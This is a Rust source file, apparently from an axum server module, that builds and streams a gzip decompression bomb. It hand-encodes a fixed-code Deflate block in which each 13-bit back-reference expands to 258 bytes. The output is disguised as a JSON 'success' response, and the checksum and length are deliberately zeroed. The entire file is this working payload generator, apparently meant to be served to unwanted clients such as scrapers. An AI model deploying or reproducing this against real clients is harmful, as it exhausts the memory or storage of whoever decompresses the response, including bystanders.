//! A few thousand bytes that unpack into many: one long JSON string, as gzip.
//!
//! What lives here: the bit stream of one Deflate block with the fixed codes, where "258 times the last byte again" takes
//! 13 bits. What never does: real compression.

use std::convert::Infallible;

use axum::body::Bytes;
use futures_util::{Stream, stream};

/// Magic, Deflate, no flags, no time, no extra flags, unknown system.
const HEAD: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
/// What comes before the many bytes.
const FIRST: &[u8] = b"{\"status\":\"success\",\"body\":\"x";
/// Bytes that one repetition adds.
const RUN_BYTES: u64 = 258;
/// Size of a piece, about.
const PIECE_BYTES: usize = 16 * 1024;

/// The bomb, from its fuse on.
pub(super) struct GzipBomb {
    runs_left: u64,
    is_begun: bool,
    is_over: bool,
    bits: u32,
    held: u32,
}

impl GzipBomb {
    /// One that unpacks into about so many bytes.
    pub(super) fn new(bytes: u64) -> Self {
        GzipBomb { runs_left: bytes / RUN_BYTES, is_begun: false, is_over: false, bits: 0, held: 0 }
    }

    /// Its pieces, made as they are asked for.
    pub(super) fn pieces(self) -> impl Stream<Item = Result<Bytes, Infallible>> {
        stream::unfold(self, |mut bomb| async move {
            let piece = bomb.piece()?;
            Some((Ok(Bytes::from(piece)), bomb))
        })
    }

    fn piece(&mut self) -> Option<Vec<u8>> {
        if self.is_over {
            return None;
        }
        let mut piece = Vec::with_capacity(PIECE_BYTES + 64);
        if !self.is_begun {
            self.is_begun = true;
            piece.extend_from_slice(&HEAD);
            // Last block, fixed codes.
            self.put(&mut piece, 0b011, 3);
            for byte in FIRST {
                self.literal(&mut piece, *byte);
            }
        }
        while self.runs_left > 0 && piece.len() < PIECE_BYTES {
            self.runs_left -= 1;
            // Length 258 is code 285, and distance 1 is code 0.
            self.code(&mut piece, 0b1100_0101, 8);
            self.code(&mut piece, 0, 5);
        }
        if self.runs_left == 0 {
            self.is_over = true;
            self.literal(&mut piece, b'"');
            self.literal(&mut piece, b'}');
            self.code(&mut piece, 0, 7);
            self.put(&mut piece, 0, 7);
            // No sum and no length that anybody could believe: whoever unpacks it all notices at the end.
            piece.extend_from_slice(&[0; 8]);
        }
        Some(piece)
    }

    /// The fixed code of a byte below 144.
    fn literal(&mut self, piece: &mut Vec<u8>, byte: u8) {
        self.code(piece, 0b0011_0000 + u32::from(byte), 8);
    }

    /// A Huffman code: its first bit first.
    fn code(&mut self, piece: &mut Vec<u8>, code: u32, length: u32) {
        self.put(piece, code.reverse_bits() >> 32_u32.saturating_sub(length), length);
    }

    /// Bits, the lowest first.
    fn put(&mut self, piece: &mut Vec<u8>, bits: u32, length: u32) {
        self.bits |= bits << self.held;
        self.held += length;
        while self.held >= 8 {
            piece.push((self.bits & 0xff) as u8);
            self.bits >>= 8;
            self.held -= 8;
        }
    }
}
